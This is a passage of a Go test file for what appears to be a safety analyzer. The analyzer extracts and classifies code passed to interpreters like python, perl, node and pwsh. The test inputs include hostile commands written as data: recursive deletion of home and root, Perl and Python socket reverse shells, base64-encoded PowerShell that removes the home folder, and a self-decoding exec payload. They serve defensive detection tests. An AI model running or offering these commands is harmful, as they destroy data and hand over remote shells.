		{Finding{Kind: Exec, Argv: []Word{{Text: "rm"}, {Text: "-rf"}, {Text: "it's here"}}}, `rm -rf "it's here"`},
		{Finding{Kind: Exec, Argv: []Word{{Text: "rm"}, {Text: "--dir=" + Mark, Dynamic: true}}}, `rm --dir="$__interp_unknown"`},
		{Finding{Kind: Exec, Argv: []Word{{Text: "rm"}, {Text: ""}}}, `rm ''`},
		{Finding{Kind: Delete, Path: Word{Text: "~/My Documents"}, Recursive: true}, `rm -rf -- ~/'My Documents'`},
		{Finding{Kind: Delete, Path: Word{Text: "~"}}, `rm -f -- ~`},
		{Finding{Kind: Delete, Path: Word{Text: "/tmp/x"}, Dir: true}, `rmdir -- /tmp/x`},
		{Finding{Kind: Delete, Path: Word{Text: "-rf"}, Recursive: true}, `rm -rf -- -rf`},
		{Finding{Kind: Write, Path: Word{Text: "/etc/hosts"}}, `: > /etc/hosts`},
		{Finding{Kind: Write, Path: Word{Text: "a;b"}, Append: true}, `: >> 'a;b'`},
		{Finding{Kind: ForkBomb}, ``},
	} {
		if got := c.f.Command(); got != c.want {
			t.Errorf("Command(%+v) = %q, want %q", c.f, got, c.want)
		}
		line := c.f.Command()
		if line == "" {
			continue
		}
		res := shellparse.Parse(line)
		if len(res.Problems) > 0 || len(res.Invocations) == 0 {
			t.Errorf("Command(%+v) = %q does not parse: %v", c.f, line, res.Problems)
		}
	}
}

func args(ws ...string) []shellparse.Arg {
	out := make([]shellparse.Arg, len(ws))
	for i, w := range ws {
		out[i] = shellparse.Arg{Value: w, Raw: w}
	}
	return out
}

// Sources reads where each interpreter takes its code.
func TestSources(t *testing.T) {
	for _, c := range []struct {
		name string
		argv []string
		want string // lang:code, joined by " | "
	}{
		{"python3", []string{"-c", "x"}, "python:x"},
		{"python3", []string{"-Bc", "x"}, "python:x"},
		{"python3", []string{"-cx"}, "python:x"},
		{"python3", []string{"-W", "ignore", "-c", "x"}, "python:x"},
		{"python3", []string{"-m", "json.tool", "-c", "x"}, ""},
		{"python3", []string{"script.py", "-c", "x"}, ""},
		{"python2.7", []string{"-c", "x"}, "python:x"},
		{"pypy3", []string{"-c", "x"}, "python:x"},
		{"python3-config", []string{"-c", "x"}, ""},
		{"node", []string{"-e", "x"}, "javascript:x"},
		{"node", []string{"--eval=x"}, "javascript:x"},
		{"node", []string{"-pe", "x"}, "javascript:x"},
		{"node", []string{"-r", "ts-node/register", "-e", "x"}, "javascript:x"},
		{"node", []string{"app.js", "-e", "x"}, ""},
		{"deno", []string{"eval", "x"}, "javascript:x"},
		{"deno", []string{"eval", "--print", "x"}, "javascript:x"},
		{"deno", []string{"run", "x.ts"}, ""},
		{"bun", []string{"-e", "x"}, "javascript:x"},
		{"perl", []string{"-e", "x"}, "perl:x"},
		{"perl", []string{"-lne", "x", "file"}, "perl:x"},
		{"perl", []string{"-MFile::Path=remove_tree", "-e", "x"}, "perl:x"},
		{"perl", []string{"-e", "x", "-e", "y"}, "perl:x | perl:y"},
		{"perl", []string{"-E", "x"}, "perl:x"},
		{"perl5.36", []string{"-e", "x"}, "perl:x"},
		{"perldoc", []string{"-e", "x"}, ""},
		{"ruby", []string{"-rfileutils", "-e", "x"}, "ruby:x"},
		{"ruby", []string{"-r", "json", "-e", "x"}, "ruby:x"},
		{"ruby", []string{"-ne", "x"}, "ruby:x"},
		{"php", []string{"-r", "x"}, "php:x"},
		{"php", []string{"-d", "memory_limit=1G", "-r", "x"}, "php:x"},
		{"php", []string{"-R", "x"}, "php:x"},
		{"php", []string{"artisan", "-r", "x"}, ""},
		{"phpunit", []string{"-r", "x"}, ""},
		{"lua", []string{"-e", "x"}, "lua:x"},
		{"lua5.4", []string{"-e", "x"}, "lua:x"},
		{"luajit", []string{"-e", "x"}, "lua:x"},
		{"lua", []string{"script.lua", "-e", "x"}, ""},
		{"rscript", []string{"-e", "x", "-e", "y"}, "r:x | r:y"},
		{"rscript", []string{"--vanilla", "-e", "x"}, "r:x"},
		{"r", []string{"--slave", "-e", "x"}, "r:x"},
		{"tclsh", []string{"script.tcl"}, ""},
		{"osascript", []string{"-e", "a", "-e", "b"}, "applescript:a\nb"},
		{"osascript", []string{"-l", "JavaScript", "-e", "x"}, "javascript:x"},
		{"osascript", []string{"script.scpt"}, ""},
		{"pwsh", []string{"-c", "x"}, "powershell:x"},
		{"pwsh", []string{"-NoProfile", "-Command", "x", "y"}, "powershell:x y"},
		{"pwsh", []string{"-ExecutionPolicy", "Bypass", "-co", "x"}, "powershell:x"},
		{"pwsh", []string{"-Command:x"}, "powershell:x"},
		{"pwsh", []string{"script.ps1", "-c", "x"}, ""},
		{"pwsh", []string{"-File", "script.ps1"}, ""},
		{"powershell", []string{"Remove-Item", "~"}, "powershell:Remove-Item ~"},
		{"powershell", []string{"/c", "x"}, "powershell:x"},
		{"powershell", []string{"-enc", "dwBoAG8AYQBtAGkA"}, "powershell:whoami"},
		{"pwsh", []string{"-EncodedCommand", "dwBoAG8AYQBtAGkA"}, "powershell:whoami"},
		{"pwsh", []string{"-e", "!!"}, "powershell:\x00"},
		{"git", []string{"-c", "x"}, ""},
	} {
		var got []string
		for _, s := range Sources(c.name, args(c.argv...)) {
			got = append(got, s.Lang.String()+":"+s.Code)
		}
		if g := strings.Join(got, " | "); g != c.want {
			t.Errorf("Sources(%s %q) = %q, want %q", c.name, c.argv, g, c.want)
		}
	}
}

func TestInvocation(t *testing.T) {
	for _, c := range []struct {
		line string
		want string
	}{
		{`python3 -c "$CODE"`, "unknown"},
		{`python3 -c "$(cat x.py)"`, "unknown"},
		{`python3 -c "import os; os.system('rm -rf $HOME')"`, "rm -rf ~"}, // bash expands $HOME in the double quotes: shellparse resolves it to ~
		{`python3 -c "import shutil; shutil.rmtree('$HOME')"`, "rm -rf -- ~"},
		{`python3 -c "print('$1')"`, ""},
		{`python3 -c "import shutil; shutil.rmtree('$DIR')"`, `rm -rf -- "$__interp_unknown" ?`},
		{`perl -e 'socket(S,2,1,6);connect(S,$a);' -e 'open(STDIN,">&S");exec("/bin/sh -i")'`, "/bin/sh -i | reverse-shell"},
		{`pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAkAEgATwBNAEUA`, "rm -rf -- ~"},
		{`pwsh -EncodedCommand "$PAYLOAD"`, "unknown"},
		{`pwsh -enc '!!notbase64'`, "unknown"},
		{`osascript -l JavaScript -e 'Application.currentApplication().doShellScript("rm -rf ~")'`, "rm -rf ~"},
		{`node -e 'console.log(1)'`, ""},
	} {
		res := shellparse.Parse(c.line)
		if len(res.Invocations) == 0 {
			t.Fatalf("%q: no invocation", c.line)
		}
		inv := res.Invocations[0]
		if got := renderAll(Invocation(inv.Name, inv.Args[1:])); got != c.want {
			t.Errorf("Invocation(%q) = %q, want %q", c.line, got, c.want)
		}
	}
}

func TestReadsStdin(t *testing.T) {
	for _, c := range []struct {
		name string
		argv []string
		want Lang
	}{
		{"python3", nil, Python},
		{"python3", []string{"-"}, Python},
		{"python3", []string{"-u", "-"}, Python},
		{"python3", []string{"-c", "x"}, NoLang},
		{"python3", []string{"script.py"}, NoLang},
		{"python3", []string{"-m", "json.tool"}, NoLang},
		{"node", nil, JavaScript},
		{"node", []string{"app.js"}, NoLang},
		{"deno", []string{"run", "-A", "-"}, JavaScript},
		{"deno", []string{"run", "x.ts"}, NoLang},
		{"perl", nil, Perl},
		{"perl", []string{"-e", "x"}, NoLang},
		{"ruby", []string{"-r", "json"}, Ruby},
		{"php", nil, PHP},
		{"lua", []string{"-"}, Lua},
		{"r", []string{"--vanilla"}, R},
		{"rscript", []string{"-"}, R},
		{"tclsh", nil, Tcl},
		{"tclsh", []string{"x.tcl"}, NoLang},
		{"osascript", nil, AppleScript},
		{"pwsh", []string{"-Command", "-"}, PowerShell},
		{"pwsh", []string{"-NoProfile", "-c", "x"}, NoLang},
		{"git", nil, NoLang},
	} {
		if got := ReadsStdin(c.name, args(c.argv...)); got != c.want {
			t.Errorf("ReadsStdin(%s %q) = %v, want %v", c.name, c.argv, got, c.want)
		}
	}
	if got := renderAll(Stdin("python3", nil, "import shutil\nshutil.rmtree('/')\n")); got != "rm -rf -- /" {
		t.Errorf("Stdin(python3) = %q", got)
	}
	if got := Stdin("python3", args("x.py"), "import shutil\nshutil.rmtree('/')\n"); got != nil {
		t.Errorf("Stdin(python3 x.py) = %v, want nil", got)
	}
}

func TestWordCode(t *testing.T) {
	for _, c := range []struct{ raw, want string }{
		{`"print('$HOME')"`, `print('$HOME')`},
		{`"print('${HOME}/x')"`, `print('$HOME/x')`},
		{`"x$(date)y"`, "x\x00y"},
		{"\"x`date`y\"", "x\x00y"},
		{`"a \"b\" \$c"`, `a "b" $c`},
		{`'a'"$X"'b'`, "a\x00b"},
		{`"$1 $@ $#"`, "\x00 \x00 \x00"},
		{`"\\n"`, `\n`},
		{`"a\nb"`, `a\nb`},
	} {
		if got := wordCode(c.raw); got != c.want {
			t.Errorf("wordCode(%s) = %q, want %q", c.raw, got, c.want)
		}
	}
}

func TestLangOf(t *testing.T) {
	for name, want := range map[string]Lang{
		"python": Python, "python3.12": Python, "pypy": Python, "node": JavaScript, "nodejs": JavaScript,
		"deno": JavaScript, "bun": JavaScript, "perl": Perl, "ruby": Ruby, "jruby": Ruby, "php": PHP,
		"php8.3": PHP, "lua": Lua, "lua5.1": Lua, "luajit": Lua, "rscript": R, "r": R, "tclsh": Tcl,
		"tclsh8.6": Tcl, "wish": Tcl, "osascript": AppleScript, "pwsh": PowerShell, "powershell": PowerShell,
		"bash": NoLang, "phpunit": NoLang, "perldoc": NoLang, "luarocks": NoLang, "rubocop": NoLang, "rake": NoLang,
	} {
		if got := LangOf(name); got != want {
			t.Errorf("LangOf(%q) = %v, want %v", name, got, want)
		}
	}
}

// Hostile input: bounded findings, no panic, Unknown past the limits.
func TestLimits(t *testing.T) {
	big := strings.Repeat("os.system('rm -rf /tmp/x'); ", 5000)
	fs := Analyze(Python, "import os\n"+big)
	if len(fs) > maxFindings {
		t.Errorf("%d findings, want at most %d", len(fs), maxFindings)
	}
	huge := strings.Repeat("x", MaxCode+10)
	if got := renderAll(Analyze(Python, huge)); !strings.Contains(got, "unknown") {
		t.Errorf("code over MaxCode: %q, want unknown", got)
	}
	deep := strings.Repeat("(", 10000) + "os.system('rm -rf /')" + strings.Repeat(")", 10000)
	if got := renderAll(Analyze(Python, deep)); !strings.Contains(got, "unknown") {
		t.Errorf("deep nesting: %q, want unknown", got)
	}
	// Code that decodes to itself is followed a bounded number of levels.
	loop := `import base64; exec(base64.b64decode('aW1wb3J0IGJhc2U2NDsgZXhlYyhiYXNlNjQuYjY0ZGVjb2RlKCdhVzF3YjNKMElHSmhjMlUyTkRzZ1pYaGxZeWhpWVhObE5qUXVZalkwWkdWamIyUmxLQ2RoVnpGM1lqTktNRWxIU21oak1sVXlUa1J6WjFwWWFHeFplV2hwV1ZoT2JFNXFVWFZaYWxrd1drZFdhbUl5VW14TFEyUm9WbnBHTTFscVRrdE5SV3hJVTIxb2FrMXNWWGxVYTFKNldqRndXV0ZIZUZwbFYyaHdWMVpvVDJKRk5YRlZXRlphWVd4cmQxZHJaRmRoYlVsNVZXMTRURkV5VW05V2JuQkhUVEZzY1ZScmRFNVNWM2hKVlRJeGIyRnJNWE5XV0d4VllURktObGRxUm5kWFYwWklaVVp3YkZZeWFIZFdNVnB2VkRKS1JrNVlSbFpYUmxwaFdWZDRjbVF4WkhKYVJtUm9ZbFZzTlZaWE1UUlVSa1Y1Vlcwd1BTY3BLUT09JykpJykp'))`
	fs = Analyze(Python, loop)
	if len(fs) == 0 {
		t.Errorf("self-decoding payload: no finding, want unknown")
	}
}

func TestDeterministic(t *testing.T) {
	code := `import os,socket;s=socket.socket();s.connect(("x",1));os.dup2(s.fileno(),0);os.system("sh")`
	a, b := renderAll(Analyze(Python, code)), renderAll(Analyze(Python, code))
	if a != b {
		t.Errorf("two analyses differ: %q, %q", a, b)
	}
}
